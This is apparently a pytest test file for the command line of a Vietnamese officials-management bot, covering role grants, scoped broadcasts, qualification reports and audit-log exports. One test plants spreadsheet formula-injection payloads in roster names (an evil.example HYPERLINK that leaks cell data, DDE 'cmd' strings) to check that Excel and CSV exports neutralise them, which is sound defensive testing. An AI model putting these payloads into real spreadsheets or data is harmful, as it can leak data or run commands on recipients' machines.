"""`canbo roles`, `canbo broadcast`, `canbo report qualifications` and `canbo audit` as an
operator runs them (bot.cli.main, in a thread of its own since each command runs its own event
loop), on the hand-counted province."""

from __future__ import annotations

import asyncio
import csv
import getpass
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from matplotlib import image
from sqlalchemy import select

from bot.cli import main
from storage.exports import is_risky
from storage.models import OutboxMessage, OutboxStatus, Role


@pytest.fixture
def run(database_url, monkeypatch, tmp_path, capsys):
    """``await run("roles", "list")``: the exit status, stdout and stderr."""
    monkeypatch.chdir(tmp_path)  # no stray .env
    monkeypatch.setenv("CANBO_DATABASE_URL", database_url)
    monkeypatch.setenv("CANBO_LOCALE", "vi")

    async def run(*argv: str) -> tuple[int, str, str]:
        capsys.readouterr()
        status = await asyncio.to_thread(main, list(argv))
        out, err = capsys.readouterr()
        return status, out, err

    return run


async def test_roles_are_granted_listed_revoked_and_audited(run, session, world):
    status, out, _err = await run(
        "roles", "grant", "--official", "B2", "--role", "coordinator", "--unit", "B"
    )
    assert (status, out) == (
        0,
        "Bùi Thị Lan (B2) từ nay phụ trách Xã Bình Minh và mọi đơn vị trực thuộc.\n",
    )
    assert (await run("roles", "grant", "--official", "B2", "--role", "coordinator"))[2] == (
        "Cán bộ phụ trách cần --unit: đơn vị mà họ phụ trách.\n"
    )
    _status, out, _err = await run("roles", "list")
    assert out.splitlines() == [
        "AD\tNgô Thị Mai\tadmin\tmọi đơn vị",
        "B2\tBùi Thị Lan\tcoordinator\tB Xã Bình Minh",
        "CA\tĐinh Văn Khoa\tcoordinator\tA Xã An Bình",
    ]
    status, out, _err = await run("roles", "revoke", "--official", "B2", "--role", "coordinator")
    assert (status, out) == (0, "Đã thu hồi 1 vai trò của Bùi Thị Lan (B2).\n")
    roles = await session.scalars(select(Role.official_id))
    assert world.people["B2"].id not in set(roles)

    _status, out, _err = await run("audit", "--action", "role")
    lines = out.splitlines()
    actor = f"cli:{getpass.getuser()}"
    assert [line.split("  ")[1:] for line in lines[0::2]] == [
        [actor, "role.revoke", "B2"],
        [actor, "role.grant", "B2"],
    ]
    assert lines[1].split() == ["role=coordinator", "unit=null", "removed=1"]
    assert lines[3].split() == ["role=coordinator", "unit=B"]


async def test_broadcasts_from_the_command_line_stay_in_scope(run, session, world, tmp_path):
    status, _out, err = await run(
        "broadcast", "create", "--as", "CA", "--unit", "B", "--text", "Họp"
    )
    assert (status, err) == (1, "Đơn vị B không thuộc phạm vi của anh/chị.\n")
    status, _out, err = await run(
        "broadcast", "create", "--as", "CA", "--unit", "XB", "--text", "Họp"
    )
    assert (status, err) == (1, "Không có đơn vị nào có mã hoặc tên XB.\n")
    status, _out, err = await run("broadcast", "create", "--as", "A2", "--text", "Họp")
    assert status == 1 and "không có vai trò phụ trách" in err

    status, out, _err = await run(
        "broadcast", "create", "--as", "CA", "--gap", "standard", "--text", "Họp", "--dry-run"
    )
    assert status == 0
    assert out.endswith(
        "Người nhận: 3 người. "
        "Trong đó 1 người không liên lạc được (1 chưa liên kết, 0 đã chặn bot).\n"
    )
    assert await session.scalar(select(OutboxMessage.id)) is None

    status, out, _err = await run(
        "broadcast",
        "create",
        "--as",
        "CA",
        "--title",
        "committee_vice_chair",
        "--text",
        "Họp Phó Chủ tịch UBND.",
        "--at",
        "01/01/2099 08:00",
    )
    assert status == 0
    number = int(out.split("Thông báo #")[1].split()[0])
    _status, out, _err = await run("broadcast", "list", "--as", "CA")
    assert out.startswith(f"#{number} · 08:00 01/01/2099 · 2 người · đã hẹn giờ · “Họp Phó")
    assert (await run("broadcast", "list", "--as", "AD"))[1] == out  # an admin sees it too

    status, out, _err = await run("broadcast", "cancel", str(number), "--as", "CA")
    assert (status, out) == (0, f"Đã hủy thông báo #{number}; 2 tin đang chờ sẽ không được gửi.\n")
    statuses = await session.scalars(select(OutboxMessage.status))
    assert set(statuses) == {OutboxStatus.CANCELLED}
    status, out, _err = await run(
        "broadcast", "report", str(number), "--as", "CA", "--xlsx", "delivery.xlsx"
    )
    assert status == 0 and "• Đã hủy: 2" in out.splitlines()
    rows = openpyxl.load_workbook(tmp_path / "delivery.xlsx")["Người nhận"].iter_rows(min_row=3)
    assert sorted(row[0].value for row in rows) == ["A3", "A5"]
    assert (await run("broadcast", "report", str(number), "--as", "A2"))[0] == 1

    _status, out, _err = await run("audit", "--action", "scope.refused")
    actor = f"cli:{getpass.getuser()}"
    assert [line.split("  ")[1:] for line in out.splitlines()[0::2]] == [
        [f"{actor} as A2", "scope.refused", "canbo broadcast"],
        [f"{actor} as A2", "scope.refused", "canbo broadcast"],
        [f"{actor} as CA", "scope.refused", "unit:B"],
    ]


async def test_qualification_reports_from_the_command_line(run, world, tmp_path):
    status, _out, err = await run(
        "report", "qualifications", "--as", "CA", "--unit", "B", "--on", "01/11/2026"
    )
    assert (status, err) == (1, "Đơn vị B không thuộc phạm vi của anh/chị.\n")
    for acting in ((), ("--as", "CA")):  # an operator, and a coordinator
        status, _out, err = await run("report", "qualifications", *acting, "--unit", "XA")
        assert (status, err) == (1, "Không có đơn vị nào có mã hoặc tên XA.\n")

    status, out, _err = await run(
        "report", "qualifications", "--unit", "A", "--on", "01/11/2026", "--compare", "2025-06-01"
    )
    assert status == 0
    assert "Đạt chuẩn trình độ: 2/5 (40,0%) (1/4 (25,0%))" in out.splitlines()

    for kind in ("xlsx", "png"):
        status, out, _err = await run(
            "report", "qualifications", "--unit", "P", "--format", kind, "--on", "01/11/2026"
        )
        assert (status, out) == (0, f"Đã ghi vào bao-cao-P-20261101.{kind}.\n")
    book = openpyxl.load_workbook(tmp_path / "bao-cao-P-20261101.xlsx")
    assert book.sheetnames[2:] == [
        "Lý luận chính trị",
        "Quản lý nhà nước",
        "Xã An Bình",
        "Xã Bình Minh",
    ]
    png = (tmp_path / "bao-cao-P-20261101.png").read_bytes()
    assert image.imread(io.BytesIO(png)).shape == (800, 1200, 4)

    _status, out, _err = await run("audit", "--action", "report", "--limit", "1")
    assert out.splitlines()[0].split("  ")[-2:] == ["report.qualifications", "P"]
    _status, out, _err = await run("audit", "--action", "scope.refused")
    assert out.splitlines()[0].split("  ")[-2:] == ["scope.refused", "unit:B"]

    status, _out, _err = await run("status", "A1", "--on", "01/11/2026")
    _status, out, _err = await run("audit", "--limit", "1")
    assert status == 0 and out.splitlines()[0].split("  ")[-2:] == ["report.status", "A1"]


HOSTILE = {
    "A1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "A2": "-2+3+cmd|' /C calc'!A0",
    "A3": "+84912345678",
    "A5": "@SUM(1+1)*cmd|' /C calc'!A0",
    "B1": "\t=1+2",
    "B2": "#N/A",
}
CARRIAGE_RETURN = "\r=cmd"  # XML reads a raw CR back as LF: compared apart


def _data_cells(path: Path) -> list[Any]:
    """Every cell holding a value, in every sheet of the workbook at ``path``."""
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]


async def test_no_roster_value_becomes_a_formula_in_a_workbook(run, session, world, tmp_path):
    for code, name in [*HOSTILE.items(), ("A4", CARRIAGE_RETURN)]:
        world.people[code].full_name = name
    world.a.name = "=1+1"
    await session.commit()

    status, _out, _err = await run(
        "report",
        "qualifications",
        "--unit",
        "P",
        "--format",
        "xlsx",
        "--on",
        "01/11/2026",
        "--output",
        "q.xlsx",
    )
    assert status == 0
    status, out, _err = await run("broadcast", "create", "--admin", "--unit", "P", "--text", "Họp")
    assert status == 0
    number = out.split("Thông báo #")[1].split()[0]
    status, _out, _err = await run("broadcast", "report", number, "--admin", "--xlsx", "d.xlsx")
    assert status == 0

    for name in ("q.xlsx", "d.xlsx"):
        cells = _data_cells(tmp_path / name)
        assert {cell.data_type for cell in cells} <= {"s", "n"}, name
        assert all(isinstance(cell.value, str) for cell in cells if cell.data_type == "s")
        risky = [cell for cell in cells if cell.data_type == "s" and is_risky(cell.value)]
        assert all(cell.quotePrefix for cell in risky), name  # text even once edited
        assert set(HOSTILE.values()) <= {cell.value for cell in cells}, name  # kept as they are
        (returned,) = [cell for cell in cells if str(cell.value).endswith("=cmd")]
        assert returned.data_type == "s" and returned.quotePrefix
    assert "=1+1, 01/11/2026" in {cell.value for cell in _data_cells(tmp_path / "q.xlsx")}


async def test_the_audit_log_exports_as_csv_with_no_live_formula(run, world, tmp_path):
    (tmp_path / "=1+1.csv").write_text('Họ và tên\n=HYPERLINK("x")\n', encoding="utf-8")
    await run("import", "officials", "=1+1.csv")
    await run("roles", "grant", "--official", "B2", "--role", "coordinator", "--unit", "B")

    status, out, _err = await run("audit", "--export", "nhat-ky.csv")

    assert (status, out) == (0, "Đã ghi 2 mục vào nhat-ky.csv.\n")
    with (tmp_path / "nhat-ky.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["Thời điểm", "Người thực hiện", "Hành động", "Đối tượng", "Chi tiết"]
    assert [row[2:4] for row in rows[1:]] == [
        ["role.grant", "B2"],
        ["import.officials", "'=1+1.csv"],  # an apostrophe: text, not a formula
    ]
    assert json.loads(rows[2][4])["outcome"] == "rejected"
    assert rows[1][0].endswith("+07:00")
    _status, out, _err = await run("audit", "--limit", "1")
    assert out.splitlines()[0].split("  ")[-2:] == ["audit.export", "nhat-ky.csv"]
